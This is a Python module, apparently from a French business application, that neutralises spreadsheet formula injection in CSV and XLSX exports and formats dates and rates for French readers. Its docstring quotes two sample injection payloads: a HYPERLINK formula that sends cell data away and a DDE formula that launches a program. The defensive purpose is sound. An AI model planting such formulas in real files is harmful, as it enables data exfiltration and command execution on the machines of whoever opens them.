"""Every CSV and XLSX file the application writes goes through here: the one place that keeps a
spreadsheet from running what people typed.

A spreadsheet runs a cell as a formula when its text starts with =, +, -, @, a tab or a carriage
return (CSV injection: `=HYPERLINK("http://…?x="&A1,"clic")` sends a row away when clicked,
`=cmd|' /C calc'!A0` starts a program). Names come from imported files, motifs and analyses are
typed by the DEL's and the prestataires' staff, and the files are opened by the DEL and finance:
so every text that starts so is written with an apostrophe before it, in CSV and XLSX alike
(what was typed stays readable, nothing is dropped), and an XLSX cell of text is a text cell.

What calls nothing is written as it is, so that the contract files (docs/contrats.md) keep their
bytes: a number or a phone number written as text ("-3", "+687 27 00 00"), and native values
(numbers, dates), which a spreadsheet never reads as formulas.

An XLSX cell holds a number or a date as such, never its text, and shows it as French readers
write it: a date 31/12/2026, a rate (`Nombre`, `FORMAT_POURCENTAGE`) 80,0 %.
"""

import re
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from io import BytesIO

import tablib
from openpyxl import Workbook
from openpyxl.cell import Cell
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter

TYPE_CSV = "text/csv; charset=utf-8"
TYPE_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# The number formats of a workbook's cells (the spreadsheet writes them in its user's language).
FORMAT_DATE = "DD/MM/YYYY"
FORMAT_DATE_HEURE = "DD/MM/YYYY HH:MM"
FORMAT_MOIS = "MM/YYYY"
FORMAT_POURCENTAGE = "0.0 %"
FORMAT_DEUX_DECIMALES = "0.00"
TITRE_INVALIDE = re.compile(r"[\\*?:/\[\]]")

DEBUTS_DE_FORMULE = ("=", "+", "-", "@", "\t", "\r")
NOMBRE_OU_TELEPHONE = re.compile(r"[+-]?[\d .()]+")
# What a spreadsheet stores as a value of its own type; anything else is written as its text.
VALEURS_NATIVES = (str, bool, int, float, Decimal, date, datetime, time, timedelta, type(None))


class Nombre(float):
    """A number that a workbook shows in its own format (`FORMAT_POURCENTAGE`: 0.8 reads
    80,0 %); anywhere else, the number."""

    def __new__(cls, valeur, format_: str):
        nombre = super().__new__(cls, valeur)
        nombre.format = format_
        return nombre


class Mois(date):
    """A month, dated its first day, that a workbook shows as 10/2026 (a date the spreadsheet
    sorts and filters, not the text "octobre 2026"); anywhere else, the date."""

    @classmethod
    def de(cls, jour: date) -> "Mois":
        return cls(jour.year, jour.month, 1)


def sans_formule(valeur):
    """The value as a spreadsheet may read it: a text that would run is prefixed with an
    apostrophe; any other value is left as it is (an object is written as its text)."""
    if not isinstance(valeur, VALEURS_NATIVES):
        valeur = str(valeur)
    if (
        isinstance(valeur, str)
        and valeur.startswith(DEBUTS_DE_FORMULE)
        and not NOMBRE_OU_TELEPHONE.fullmatch(valeur)
    ):
        return f"'{valeur}"
    return valeur


def _neutre(tableau: tablib.Dataset) -> tablib.Dataset:
    headers = [sans_formule(titre) for titre in tableau.headers] if tableau.headers else None
    return tablib.Dataset(
        *(tuple(map(sans_formule, rangee)) for rangee in tableau),
        headers=headers,
        title=tableau.title,
    )


def csv(tableau: tablib.Dataset, *, separateur: str = ",") -> str:
    """The table as CSV text (tablib's dialect: quotes where needed, CRLF line ends)."""
    return _neutre(tableau).export("csv", delimiter=separateur)


def xlsx(*feuilles: tablib.Dataset) -> bytes:
    """A workbook of these sheets, in this order (headers bold, first row frozen; a lone sheet's
    columns as wide as their content)."""
    classeur = Workbook()
    classeur.remove(classeur.active)
    for rang, feuille in enumerate(feuilles):
        titre = feuille.title or ("Tablib Dataset" if len(feuilles) == 1 else f"Sheet{rang}")
        onglet = classeur.create_sheet(TITRE_INVALIDE.sub("-", titre)[:31])
        _remplir(onglet, _neutre(feuille))
        if len(feuilles) == 1:
            _largeurs_adaptees(onglet)
    flux = BytesIO()
    classeur.save(flux)
    return flux.getvalue()


def _remplir(onglet, feuille: tablib.Dataset) -> None:
    if feuille.headers:
        onglet.append([_en_gras(onglet, titre) for titre in feuille.headers])
        onglet.freeze_panes = "A2"
    for rangee in feuille:
        onglet.append([_cellule(onglet, valeur) for valeur in rangee])


def _cellule(onglet, valeur):
    """The value as a cell when it needs a format of its own; as it is otherwise (the
    workbook makes it a cell, which costs less)."""
    if isinstance(valeur, Nombre):
        return _formatee(onglet, float(valeur), valeur.format)
    if isinstance(valeur, Mois):
        return _formatee(onglet, date(valeur.year, valeur.month, valeur.day), FORMAT_MOIS)
    if isinstance(valeur, datetime):
        return _formatee(onglet, valeur, FORMAT_DATE_HEURE)
    if isinstance(valeur, date):
        return _formatee(onglet, valeur, FORMAT_DATE)
    if isinstance(valeur, str) and "\n" in valeur:
        cellule = Cell(onglet, value=valeur)
        cellule.alignment = Alignment(wrap_text=True)
        return cellule
    return valeur


def _en_gras(onglet, titre) -> Cell:
    cellule = Cell(onglet, value=titre)
    cellule.font = Font(bold=True)
    return cellule


def _formatee(onglet, valeur, format_: str) -> Cell:
    cellule = Cell(onglet, value=valeur)
    cellule.number_format = format_
    return cellule


def _largeurs_adaptees(onglet) -> None:
    largeurs: list[int] = []
    for rangee in onglet.values:
        for rang, valeur in enumerate(rangee):
            largeur = len(str(valeur))
            if rang < len(largeurs):
                largeurs[rang] = max(largeurs[rang], largeur)
            else:
                largeurs.append(largeur)
    for rang, largeur in enumerate(largeurs, 1):
        onglet.column_dimensions[get_column_letter(rang)].width = largeur
